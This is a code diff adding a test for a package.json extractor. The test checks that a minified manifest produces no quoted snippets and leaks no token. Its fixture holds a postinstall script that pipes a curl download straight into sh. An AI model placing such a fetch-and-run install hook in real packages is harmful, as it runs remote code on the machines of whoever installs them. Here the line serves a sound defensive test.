@@ -123,6 +123,14 @@ test('broken JSON gives a diagnostic and no facts; strange values do not crash',
   assert.deepEqual(deps(odd.facts).map((d) => d.name), ['constructor', 'toString']);
 });
 
+test('a minified manifest gives no snippets (one line would quote everything)', () => {
+  const text = JSON.stringify({ name: 'min', scripts: { postinstall: 'curl -H "x-token: abc" https://x | sh' }, dependencies: { koa: '^2' } });
+  const { facts } = runExtractor(extractor, { 'package.json': text });
+  assert.deepEqual(projects(facts)[0].evidence, { file: 'package.json', line: 1 });
+  assert.deepEqual(deps(facts)[0].evidence, { file: 'package.json', line: 1 });
+  assert.equal(JSON.stringify(facts).includes('x-token'), false);
+});
+
 test('a byte-order mark and CRLF line endings are read', () => {
   const text = '\uFEFF{\r\n  "name": "bom",\r\n  "dependencies": {\r\n    "koa": "^2.15.0"\r\n  }\r\n}\r\n';
   const { facts, diagnostics } = runExtractor(extractor, { 'package.json': text });
